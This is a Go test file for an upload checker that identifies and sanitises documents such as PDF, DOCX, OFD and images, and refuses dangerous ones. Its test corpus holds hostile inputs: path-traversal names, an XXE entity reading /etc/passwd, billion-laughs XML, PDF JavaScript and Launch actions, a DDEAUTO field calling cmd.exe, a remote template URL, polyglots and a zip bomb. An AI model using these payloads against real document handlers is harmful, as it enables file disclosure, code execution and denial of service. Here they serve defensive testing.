package paper_test

import (
	"archive/zip"
	"bytes"
	"compress/zlib"
	"image"
	"image/jpeg"
	"image/png"
	"io"
	"strings"
	"testing"

	"chancery/core/fault"
	"chancery/core/paper"
)

func must(t *testing.T, err error) {
	t.Helper()
	if err != nil {
		t.Fatal(err)
	}
}

// pack makes a package of parts: name, content, name, content.
func pack(t *testing.T, parts ...string) []byte {
	t.Helper()
	var b bytes.Buffer
	z := zip.NewWriter(&b)
	for i := 0; i < len(parts); i += 2 {
		w, err := z.Create(parts[i])
		must(t, err)
		_, err = io.WriteString(w, parts[i+1])
		must(t, err)
	}
	must(t, z.Close())
	return b.Bytes()
}

const (
	docxTypes = `<Types><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>`
	xlsxTypes = `<Types><Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/></Types>`
	ofdRoot   = `<?xml version="1.0" encoding="UTF-8"?><ofd:OFD xmlns:ofd="http://www.ofdspec.org/2016" Version="1.0"><ofd:DocBody/></ofd:OFD>`
)

func docx(t *testing.T, more ...string) []byte {
	t.Helper()
	return pack(t, append([]string{"[Content_Types].xml", docxTypes, "word/document.xml", `<w:document xmlns:w="w"><w:p><w:t>邀请函</w:t></w:p></w:document>`}, more...)...)
}

func pdf(objects string) []byte {
	return []byte("%PDF-1.7\n1 0 obj\n<< /Type /Catalog " + objects + " >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n")
}

func pictures(t *testing.T) (asPNG, asJPEG []byte) {
	t.Helper()
	m := image.NewRGBA(image.Rect(0, 0, 8, 8))
	var a, b bytes.Buffer
	must(t, png.Encode(&a, m))
	must(t, jpeg.Encode(&b, m, nil))
	return a.Bytes(), b.Bytes()
}

func TestPapersAreRecognisedByWhatIsInThem(t *testing.T) {
	t.Parallel()
	asPNG, asJPEG := pictures(t)
	for name, c := range map[string]struct {
		data []byte
		want paper.Paper
	}{
		"邀请函（译文）.pdf":       {pdf(""), paper.Paper{Name: "邀请函（译文）.pdf", Type: paper.PDF}},
		"扫描件.PNG":           {asPNG, paper.Paper{Name: "扫描件.PNG", Type: paper.PNG}},
		"扫描件.jpeg":          {asJPEG, paper.Paper{Name: "扫描件.jpeg", Type: paper.JPEG}},
		"请示":                {docx(t), paper.Paper{Name: "请示.docx", Type: paper.DOCX}},
		"预算.xlsx":           {pack(t, "[Content_Types].xml", xlsxTypes, "xl/workbook.xml", `<workbook/>`), paper.Paper{Name: "预算.xlsx", Type: paper.XLSX}},
		"公文.ofd":            {pack(t, "OFD.xml", ofdRoot, "Doc_0/Document.xml", `<Document/>`), paper.Paper{Name: "公文.ofd", Type: paper.OFD}},
		`C:\案卷\..\名单.pdf`:   {pdf(""), paper.Paper{Name: "名单.pdf", Type: paper.PDF}},
		"../../etc/passwd":  {pdf(""), paper.Paper{Name: "passwd.pdf", Type: paper.PDF}},
		"a\u202efdp.单名\x00": {pdf(""), paper.Paper{Name: "afdp.单名.pdf", Type: paper.PDF}},
		"  .. ":             {pdf(""), paper.Paper{Name: "附件.pdf", Type: paper.PDF}},
		`甲"乙|丙<丁>?.pdf`:     {pdf(""), paper.Paper{Name: "甲_乙_丙_丁__.pdf", Type: paper.PDF}},
	} {
		got, err := paper.Examine(name, c.data)
		if err != nil || got != c.want {
			t.Errorf("%q: %+v, %v", name, got, err)
		}
	}
	long, err := paper.Examine(strings.Repeat("长", 400)+".pdf", pdf(""))
	if err != nil || len([]rune(long.Name)) != 124 {
		t.Errorf("a long name is kept as %d characters, %v", len([]rune(long.Name)), err)
	}
}

// TestS13_WhatActsHidesOrBurstsIsRefused goes through the corpus of hostile files.
func TestS13_WhatActsHidesOrBurstsIsRefused(t *testing.T) {
	t.Parallel()
	asPNG, asJPEG := pictures(t)
	eicar := `X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-` + `STANDARD-ANTIVIRUS-TEST-FILE!$H+H*`
	var packedObjects bytes.Buffer
	z := zlib.NewWriter(&packedObjects)
	_, err := z.Write([]byte(`2 0 << /S /JavaScript /JS (app.alert(1)) >>`))
	must(t, err)
	must(t, z.Close())
	over := docx(t)
	for name, data := range map[string][]byte{
		"empty":                        {},
		"more than the limit":          append(pdf(""), make([]byte, paper.AtMost)...),
		"EICAR":                        []byte(eicar),
		"EICAR in a PDF":               pdf("(" + eicar + ")"),
		"EICAR in a package":           docx(t, "word/media/a.txt", eicar),
		"SVG with a script":            []byte(`<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>`),
		"HTML":                         []byte("<!DOCTYPE html><html><body>hello</body></html>"),
		"a program":                    []byte("MZ\x90\x00 This program cannot be run in DOS mode"),
		"an old or locked document":    []byte("\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"),
		"plain text":                   []byte("请示"),
		"a plain package":              pack(t, "a.txt", "a"),
		"a PDF that begins later":      append([]byte("<html>"), pdf("")...),
		"a PDF without an end":         []byte("%PDF-1.7\n1 0 obj"),
		"a PDF with a script":          pdf("/OpenAction << /S /JavaScript /JS (x) >>"),
		"a PDF with a disguised one":   pdf("/OpenAction << /S /J#61vaScript >>"),
		"a PDF with packed objects":    pdf(">>\nendobj\n2 0 obj\n<< /Type /ObjStm /Filter /FlateDecode >>\nstream\n" + packedObjects.String() + "\nendstream\nendobj\n3 0 obj <<"),
		"a PDF with locked objects":    pdf(">>\nendobj\n2 0 obj\n<< /Type /ObjStm >>\nstream\nxxxx\nendstream\nendobj\n3 0 obj <<"),
		"a PDF that starts a program":  pdf("/OpenAction << /S /Launch >>"),
		"a PDF with a file in it":      pdf("/Names << /EmbeddedFiles 3 0 R >>"),
		"a PDF that is a package":      append(pdf(""), docx(t)...),
		"a PDF that is a page":         pdf("(<html><script>alert(1)</script>)"),
		"a picture that is a package":  append(bytes.Clone(asPNG), docx(t)...),
		"a picture with a page behind": append(bytes.Clone(asPNG), "<script>alert(1)</script>"...),
		"a picture cut off":            asPNG[:len(asPNG)-8],
		"a picture that was changed":   append(append(bytes.Clone(asPNG[:20]), 0xff), asPNG[21:]...),
		"a photo that is a package":    append(bytes.Clone(asJPEG), docx(t)...),
		"a photo with a page behind":   append(bytes.Clone(asJPEG), "<?php echo 1 ?>"...),
		"a photo of nothing":           []byte("\xff\xd8\xff\xe0 nothing"),
		"a package with one behind":    append(bytes.Clone(over), "behind"...),
		"a package with one before":    append([]byte("PK\x03\x04before"), over...),
		"a path that leads out":        docx(t, "../../evil.xml", "<a/>"),
		"a path from the root":         docx(t, "/etc/passwd", "a"),
		"a path with backslashes":      docx(t, `..\evil.xml`, "<a/>"),
		"an entity from outside":       docx(t, "word/a.xml", `<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>`),
		"a thousand laughs":            docx(t, "word/a.xml", `<!DOCTYPE a [<!ENTITY x "ha"><!ENTITY y "&x;&x;&x;">]><a>&y;</a>`),
		"XML in another writing":       docx(t, "word/a.xml", "<?xml version=\"1.0\" encoding=\"UTF-16\"?><a/>"),
		"macros":                       docx(t, "word/vbaProject.bin", "x"),
		"macros by declaration":        pack(t, "[Content_Types].xml", `<Types><Override ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>`),
		"an object":                    docx(t, "word/embeddings/oleObject1.bin", "x"),
		"a control":                    docx(t, "word/activeX/activeX1.xml", "<a/>"),
		"a program in a package":       docx(t, "word/media/image1.png", "MZ\x90"),
		"a script in a package":        docx(t, "word/media/a.js", "x"),
		"a template from elsewhere":    docx(t, "word/_rels/settings.xml.rels", `<Relationships><Relationship Type="http://schemas/attachedTemplate" Target="http://198.51.100.7/x.dotm" TargetMode="External"/></Relationships>`),
		"a field that asks elsewhere":  docx(t, "word/a.xml", `<w:p xmlns:w="w"><w:instrText>DDEAUTO c:\\windows\\system32\\cmd.exe</w:instrText></w:p>`),
		"a bomb":                       docx(t, "word/media/a.bin", strings.Repeat("0", 30<<20)),
		"too much in many parts":       docx(t, manyParts()...),
	} {
		_, err := paper.Examine("文件", data)
		faults := fault.All(err)
		if len(faults) != 1 || faults[0].Kind != fault.Invalid || faults[0].Text.ZH == "" || faults[0].Text.EN == "" {
			t.Errorf("%s: %v", name, err)
		}
	}
}

// manyParts are parts of which none is packed suspiciously well, and all together are too much.
func manyParts() []string {
	var out []string
	for i := range 130 {
		out = append(out, "word/media/"+strings.Repeat("a", i+1)+".bin", strings.Repeat("0123456789abcdef", 1<<16-1))
	}
	return out
}

func TestANameThatSaysAnotherKindThanTheContentIsRefused(t *testing.T) {
	t.Parallel()
	for _, name := range []string{"请示.docx", "图.svg", "a.exe", "a.html", "旧.doc"} {
		if _, err := paper.Examine(name, pdf("")); fault.KindOf(err) != fault.Invalid {
			t.Errorf("%s with a PDF in it: %v", name, err)
		}
	}
}

// TestS08_APaperThatBearsTheMarkOfAStateSecretIsRefused, in its name or in its words.
func TestS08_APaperThatBearsTheMarkOfAStateSecretIsRefused(t *testing.T) {
	t.Parallel()
	if _, err := paper.Examine("请示（秘密）.pdf", pdf("")); fault.KindOf(err) != fault.NotAllowed {
		t.Errorf("by its name: %v", err)
	}
	split := docx(t, "word/header1.xml", `<w:hdr xmlns:w="w"><w:p><w:r><w:t>机</w:t></w:r><w:r><w:t>密★10年</w:t></w:r></w:p></w:hdr>`)
	if _, err := paper.Examine("请示.docx", split); fault.KindOf(err) != fault.NotAllowed {
		t.Errorf("by its words: %v", err)
	}
}

func FuzzExamine(f *testing.F) {
	f.Add("a.pdf", pdf("/JS"))
	f.Add("a.docx", []byte("PK\x03\x04PK\x05\x06"))
	f.Add("a.png", []byte("\x89PNG\r\n\x1a\n\x00\x00\x00\x00IHDR"))
	f.Fuzz(func(t *testing.T, name string, data []byte) {
		p, err := paper.Examine(name, data)
		if err == nil && (p.Name == "" || strings.ContainsAny(p.Name, "/\\\x00\n") || len(data) == 0) {
			t.Errorf("%q is kept as %q", name, p.Name)
		}
		if err != nil && fault.KindOf(err) == fault.Ours {
			t.Errorf("%v", err)
		}
	})
}
